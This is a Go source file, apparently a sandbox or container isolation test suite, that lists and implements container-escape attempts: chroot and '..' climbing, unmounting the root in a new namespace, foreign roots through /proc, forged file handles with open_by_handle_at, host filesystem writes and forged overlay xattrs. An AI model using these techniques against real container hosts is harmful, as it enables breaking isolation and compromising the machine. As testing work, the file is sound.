package attack

import (
	"errors"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

var roots = []Attack{
	{Name: "chroot", What: "`chroot`", Try: func() error { return rootOfItsOwn("/mnt") }},
	{Name: "chroot-dotdot", What: "leave the root by `chroot` and `..`", Try: climb},
	{Name: "pivot-root", What: "`pivot_root`", Try: func() error {
		return past(unix.PivotRoot("/nonesuch", "/nonesuch"), unix.ENOENT)
	}},
	{Name: "uncover-root", What: "unmount the root and stand in what lay below it", Try: uncoverRoot},
	{Name: "proc-root", What: "another root through `/proc/PID/root`", Try: foreignRoot},
	{Name: "proc-cwd", What: "a working directory outside of the root", Try: foreignCwd},
	{Name: "handle-name", What: "`name_to_handle_at`", Try: func() error { _, _, err := unix.NameToHandleAt(unix.AT_FDCWD, Program, 0); return err },
		Why: "The handle tells the number of an inode; to open by it is refused."},
	{Name: "handle-open", What: "open by handle what no path leads to", Try: openByHandle},
	{Name: "handle-notify", What: "open by handle other files of the file system that a bind mount shows", Try: openBindByHandle},
	{Name: "foreign-mount", What: "a mount of the machine that is visible", Try: foreignMount},
	{Name: "overlay-layers", What: "the layers of its root, by the paths that `/proc/mounts` tells", Try: layers},
	{Name: "root-write", What: "write to the file system that the machine runs from", Try: writeMachine},
	{Name: "trusted-xattr", What: "forge the marks of the overlay: `trusted.*` attributes", Try: func() error {
		return onScratch(func(name string) error { return unix.Setxattr(name, "trusted.overlay.opaque", []byte("y"), 0) })
	}},
}

// machineRoot tells whether a directory is the root of the machine.
func machineRoot(dir string) bool {
	_, err := os.Lstat(dir + "/containers")
	return err == nil
}

// rootOfItsOwn is a chroot of this thread alone.
func rootOfItsOwn(dir string) error {
	if err := unix.Unshare(unix.CLONE_FS); err != nil {
		return err
	}
	return unix.Chroot(dir)
}

// climb is the escape by a directory that is open outside of a new root.
func climb() error {
	top, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	if err := rootOfItsOwn("/mnt"); err != nil {
		return err
	}
	if err := unix.Fchdir(top); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if !machineRoot(".") {
		return inside
	}
	return nil
}

// uncoverRoot detaches all that is mounted, in a mount namespace of its own, and
// enters that anew: the process then stands at the bottom of the namespace.
var uncoverRoot = apart(func() error {
	fd, err := unix.Open("/proc/self/task/"+itoa(unix.Gettid())+"/ns/mnt", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	if err := unix.Unmount("/", unix.MNT_DETACH); err != nil {
		return err
	}
	if err := unix.Setns(fd, unix.CLONE_NEWNS); err != nil {
		return err
	}
	if !machineRoot("/") {
		return inside
	}
	return nil
})

// foreignRoot looks for a process whose root is not this one's.
func foreignRoot() error {
	return eachProcess(func(pid int) error {
		if machineRoot("/proc/" + itoa(pid) + "/root") {
			return nil
		}
		return unix.ESRCH
	})
}

// foreignCwd looks where the runtime has started the process, and its parents.
func foreignCwd() error {
	for _, link := range []string{"/proc/self/cwd", "/proc/1/cwd"} {
		if dir, err := os.Readlink(link); err != nil {
			return err
		} else if strings.HasPrefix(dir, "(unreachable)") || machineRoot(link) || machineRoot(link+"/../../../../../..") {
			return nil
		}
	}
	return inside
}

func openByHandle() error { return reopen(Program, "/") }

// openBindByHandle opens through the directory that is bound in for readiness.
func openBindByHandle() error {
	socket := os.Getenv("NOTIFY_SOCKET")
	if socket == "" {
		return unix.ENOENT
	}
	dir := socket[:strings.LastIndex(socket, "/")]
	return reopen(dir, dir)
}

// reopen opens a file by its handle, as could be done with a guessed one.
func reopen(path, mount string) error {
	handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, path, 0)
	if errors.Is(err, unix.EOPNOTSUPP) {
		// The file system gives none; ask with one that was made up.
		forged := unix.NewFileHandle(1, make([]byte, 8))
		handle, err = forged, nil
	}
	if err != nil {
		return err
	}
	at, err := unix.Open(mount, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	fd, err := unix.OpenByHandleAt(at, handle, unix.O_RDONLY|unix.O_CLOEXEC)
	if err != nil {
		return err
	}
	return unix.Close(fd)
}
